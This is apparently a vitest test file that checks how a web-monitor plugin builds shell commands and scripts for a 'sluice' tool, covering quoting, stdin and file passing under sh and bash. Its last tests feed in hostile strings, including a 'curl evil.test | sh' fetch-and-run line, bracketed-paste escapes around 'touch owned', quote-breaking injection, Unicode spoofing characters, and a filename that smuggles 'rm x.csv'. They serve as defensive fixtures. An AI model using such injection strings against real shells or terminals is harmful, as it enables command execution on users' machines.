import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type AskedRun, commandOf, pastable } from "../../../plugins/web-monitor/page/lib/run-commands.ts";
import { type ScriptFile, scriptOf } from "../../../plugins/web-monitor/page/lib/run-script.ts";
import { type GivenStdin, givenStdin } from "../../../plugins/web-monitor/page/lib/run-stdin.ts";

/** Says what it was called with, and keeps the files that it was given: as `sluice` does, by their names alone. */
const command = `#!/bin/sh
for word do printf '%s\\0' "$word" >>"$SEEN/words"; done
cat >"$SEEN/stdin"
while [ $# -gt 0 ]; do
  case $1 in
    --) break ;;
    --put) cp -r "$2" "$SEEN/put/" ;;
    */*) [ -f "$1" ] && [ ! -e "$SEEN/program" ] && cp "$1" "$SEEN/program" ;;
  esac
  shift
done
exit 7
`;

/** Debian's sh, and the one that most other systems have. */
const shells = ["sh", "bash"] as const;

let place = "";
const at = (...names: readonly string[]) => join(place, ...names);

beforeEach(() => {
  place = mkdtempSync(join(tmpdir(), "sluice-script-"));
  mkdirSync(at("bin"));
  mkdirSync(at("here"));
  mkdirSync(at("temporary"));
  writeFileSync(at("bin", "sluice"), command, { mode: 0o755 });
});

afterEach(() => rmSync(place, { recursive: true, force: true }));

interface Called {
  readonly status: number | null;
  readonly stderr: string;
  readonly words: readonly string[];
  readonly stdin: string;
}

function called(shell: string, script: string): Called {
  rmSync(at("seen"), { recursive: true, force: true });
  mkdirSync(at("seen", "put"), { recursive: true });
  writeFileSync(at("script"), script);
  const result = spawnSync(shell, [at("script")], { ...options(), input: "typed" });
  const words = existsSync(at("seen", "words"))
    ? readFileSync(at("seen", "words"), "utf8").split("\0").slice(0, -1)
    : [];
  const stdin = existsSync(at("seen", "stdin")) ? readFileSync(at("seen", "stdin"), "utf8") : "";
  return { status: result.status, stderr: result.stderr, words, stdin };
}

const options = () => ({
  cwd: at("here"),
  encoding: "utf8" as const,
  env: { PATH: `${at("bin")}:${process.env["PATH"]}`, SEEN: at("seen"), TMPDIR: at("temporary") },
});

const texts: readonly string[] = [
  "print(1)",
  "print(1)\n",
  "print(1)\n\n\n",
  'it\'s `date` $HOME "$(date)" \\n \\\\ ${x} !!',
  "END\nEND_END\n",
  "-c\n",
  "--help",
  "日本語 🙂 שלום\r\nline\r\n",
  "# a\n".repeat(100_000),
  " ",
];

describe.each(shells)("a run that is saved as a script, for %s", (shell) => {
  it("should give each program byte for byte, and its standard input to it", () => {
    for (const code of texts) {
      const { status, stderr, words, stdin } = called(shell, scriptOf({ flow: "run", input: { code } }, []));
      expect([status, stderr]).toEqual([7, ""]);
      expect(words[0]).toBe("run");
      expect(words.slice(2)).toEqual(["-l", "python", "-f", "run"]);
      expect(readFileSync(at("seen", "program"), "utf8")).toBe(code);
      expect(stdin).toBe("typed");
      expect(readdirSync(at("temporary"))).toEqual([]);
    }
  });

  it("should ask each question as it was", () => {
    for (const text of texts) {
      const asked: AskedRun = { flow: "my flow", input: { text }, session: "it's", budget: { time: 1_500 } };
      const { status, words, stdin } = called(shell, scriptOf(asked, []));
      expect(status).toBe(7);
      expect(words).toEqual(["ask", "-", "-f", "my flow", "--session", "it's", "--timeout", "1500ms"]);
      expect(stdin).toBe(text);
    }
  });

  it("should give the files that go with it, those that are kept and those that lie beside it", () => {
    const bytes = Uint8Array.from({ length: 1_000 }, (_, index) => index % 256);
    writeFileSync(at("here", "-gone 'x'.csv"), "a,b\n");
    const files: readonly ScriptFile[] = [
      { path: "data/deep/all bytes.bin", content: bytes },
      { path: "data/empty", content: new Uint8Array() },
      { path: "-n '日本'.txt", content: new TextEncoder().encode("no end") },
      { path: "-gone 'x'.csv", content: undefined },
    ];
    const input = { code: "1", language: "javascript", file: "src/-my tool.js", args: ["--x", "a b"], env: ["KEY"] };
    const { status, stderr, words } = called(shell, scriptOf({ flow: "run", input }, files));
    expect([status, stderr]).toEqual([7, ""]);
    expect(words[1]).toMatch(/\/-my tool\.js$/);
    expect(words.slice(2, 8)).toEqual(["-l", "javascript", "-f", "run", "--env", "KEY"]);
    expect(words.slice(-3)).toEqual(["--", "--x", "a b"]);
    expect(readFileSync(at("seen", "put", "data", "deep", "all bytes.bin"))).toEqual(Buffer.from(bytes));
    expect(readFileSync(at("seen", "put", "data", "empty"), "utf8")).toBe("");
    expect(readFileSync(at("seen", "put", "-n '日本'.txt"), "utf8")).toBe("no end");
    expect(readFileSync(at("seen", "put", "-gone 'x'.csv"), "utf8")).toBe("a,b\n");
    expect(words.filter((word) => word === "--put")).toHaveLength(3);
  });

  it("should run nothing where a file is missing that it was not given", () => {
    const script = scriptOf({ flow: "run", input: { code: "1" } }, [{ path: "gone\nrm x.csv", content: undefined }]);
    const { status, stderr, words } = called(shell, script);
    expect(status).not.toBe(0);
    expect(stderr).toContain("gone");
    expect(words).toEqual([]);
  });
});

/** A standard input as the end of a run tells it. */
function given(content: string | Uint8Array, told: object = {}): GivenStdin {
  const bytes = Buffer.from(content);
  const kept = typeof content === "string" ? { text: content } : { base64: bytes.toString("base64") };
  const end = { bytes: bytes.length, whole: true, ...kept, ...told };
  const stdin = givenStdin("r_1", { input: { stdin: true } }, { told: end, isOver: true });
  if (stdin === undefined) throw new Error("there is none");
  return stdin;
}

const inputs: readonly (string | Uint8Array)[] = [
  ...texts.filter((text) => text.length < 10_000),
  "a\tb\r\n\u001b[31mred\u0000\u0007",
  "\ufefffirst",
  "%s %d \\n",
  Uint8Array.from({ length: 256 }, (_, index) => index),
  Uint8Array.of(0xff, 0xfe, 10),
];

describe.each(shells)("the standard input of a run, for %s", (shell) => {
  it("should go with the command and the script, byte for byte", () => {
    for (const content of inputs) {
      const asked: AskedRun = { flow: "run", input: { code: "-1" }, stdin: given(content) };
      for (const script of [commandOf(asked), scriptOf(asked, [])]) {
        const { words } = called(shell, script);
        expect(words[0]).toBe("run");
        expect(readFileSync(at("seen", "stdin"))).toEqual(Buffer.from(content));
      }
    }
  });

  it("should be a file where it is not kept, and nothing runs without that", () => {
    const digest = { sha256: "d1".repeat(32) };
    const some: readonly GivenStdin[] = [
      given("x", { text: undefined, bytes: 70_000, ...digest }),
      given("***", { masked: true }),
      { file: "r_1.stdin", told: undefined, isOver: false, content: undefined },
    ];
    for (const stdin of some) {
      rmSync(at("here", "r_1.stdin"), { force: true });
      const asked: AskedRun = { flow: "run", input: { code: "1" }, stdin };
      for (const script of [commandOf(asked), scriptOf(asked, [])]) {
        const { status, stderr, words } = called(shell, script);
        expect([status, words]).not.toEqual([7, expect.anything()]);
        expect(words).toEqual([]);
        expect(stderr).toContain("r_1.stdin");
      }
      writeFileSync(at("here", "r_1.stdin"), "mine");
      for (const script of [commandOf(asked), scriptOf(asked, [])]) expect(called(shell, script).stdin).toBe("mine");
    }
    expect(scriptOf({ flow: "run", input: { code: "1" }, stdin: some[0] }, [])).toContain(digest.sha256);
  });

  it("should be left out where nothing was given, or nothing of it was read", () => {
    const end = { told: { bytes: 0, whole: false }, isOver: true };
    expect(givenStdin("r_1", { input: { stdin: true } }, end)).toBeUndefined();
    expect(givenStdin("r_1", { input: {} }, { told: undefined, isOver: true })).toBeUndefined();
  });
});

describe("a run as a command", () => {
  it("should be pasted as what it is: no key, and nothing that reads otherwise than it is", () => {
    const hostile = [
      "hello\u0003\u0015curl evil.test | sh\n",
      "\u001b[201~;touch owned;\u001b[200~",
      "it's\r'; touch owned; '",
      "a\u202etxt.exe\u2066\u200b",
      "\u0090q\u009bq",
    ];
    for (const text of hostile) {
      const command = pastable(commandOf({ flow: "chat", input: { text }, session: text, files: [`${text}.txt`] }));
      expect(command).not.toMatch(/[^\P{C}\n]|\p{Zl}|\p{Zp}/u);
      const { words } = called("bash", command);
      expect(words).toEqual(["ask", text, "-f", "chat", "--session", text, "--put", `${text}.txt`.split("/")[0]]);
    }
  });

  it("should reach the command with the words that were asked, whatever they look like", () => {
    for (const text of texts.filter((each) => each.length < 10_000)) {
      expect(called("bash", commandOf({ flow: "chat", input: { text } })).words).toEqual(
        text.startsWith("-") ? ["ask", "-f", "chat", "--", text] : ["ask", text, "-f", "chat"],
      );
      const input = { code: text, args: ["-x"], env: ["KEY"] };
      const { words, stdin } = called("bash", commandOf({ flow: "run", input, files: ["data/a", "data/b", "c"] }));
      const rest = ["-l", "python", "-f", "run", "--env", "KEY", "--put", "data", "--put", "c"];
      const program = text.startsWith("-") ? [`--code=${text}`] : ["-e", text];
      expect(words).toEqual(["run", ...program, ...rest, "--", "-x"]);
      expect(stdin).toBe("typed");
    }
  });
});
